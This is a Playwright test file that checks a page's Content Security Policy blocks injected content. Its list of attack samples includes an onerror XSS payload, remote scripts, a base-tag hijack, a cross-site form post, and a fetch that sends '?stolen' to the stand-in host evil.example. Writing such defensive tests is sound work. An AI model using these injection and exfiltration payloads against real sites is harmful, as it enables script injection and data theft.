import {expect, test} from './support';

/** What a page's policy blocks. That it blocks nothing of a page itself: pages.spec.ts. */
test.use({reducedMotion: 'reduce'});

declare global {
  function addElement<Tag extends keyof HTMLElementTagNameMap>(
    tag: Tag,
    properties: Partial<HTMLElementTagNameMap[Tag]>,
  ): HTMLElementTagNameMap[Tag];
  interface Window {
    addElement: typeof addElement;
    /** What was blocked, by its directive. */
    violations: string[];
  }
}

/** Markup that is put into the page, or what a script does there; and what the policy forbids of it. */
const attacks: [name: string, attack: string | (() => void), directive: string][] = [
  ['an event handler', '<img src="/nope.png" onerror="document.title = \'taken over\'">', 'script-src-attr'],
  ['a style', '<p style="position: fixed; inset: 0">', 'style-src-attr'],
  ['a frame', '<iframe src="https://evil.example/"></iframe>', 'frame-src'],
  ['an inline script', () => addElement('script', {textContent: 'document.title = "taken over"'}), 'script-src-elem'],
  ['another server’s script', () => addElement('script', {src: 'https://evil.example/x.js'}), 'script-src-elem'],
  ['a base for every link', () => addElement('base', {href: 'https://evil.example/'}), 'base-uri'],
  [
    'a form that posts elsewhere',
    () => addElement('form', {action: 'https://evil.example/', method: 'post'}).submit(),
    'form-action',
  ],
  [
    'a request to another server',
    () => {
      fetch('https://evil.example/?stolen').catch(() => {
        // The policy's doing: it is what the test waits for.
      });
    },
    'connect-src',
  ],
];

test('whatever gets into a page from outside does nothing: scripts, styles, frames, forms, requests', async ({
  page,
  problems,
}) => {
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
      window.violations.push(effectiveDirective),
    );
    window.addElement = (tag, properties) => {
      const element = Object.assign(document.createElement(tag), properties);
      document.body.append(element);
      return element;
    };
  });
  const reached: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  await page.goto('/contact');
  for (const [name, attack, directive] of attacks) {
    const before = await page.evaluate(() => window.violations.length);
    problems.length = 0;
    await (typeof attack === 'string'
      ? page.evaluate((markup) => document.body.insertAdjacentHTML('beforeend', markup), attack)
      : page.evaluate(attack));
    const blocked = () => page.evaluate((before) => window.violations.slice(before), before);
    await expect.poll(blocked, name).toContain(directive);
    // It is written to the console, where every other test fails on it.
    await expect.poll(() => problems.length, name).toBeGreaterThan(0);
  }
  expect(await page.evaluate(() => [document.title, document.baseURI])).not.toContain('taken over');
  expect(page.url()).toMatch(/\/contact$/);
  expect(reached).toEqual([]);
  problems.length = 0;
});
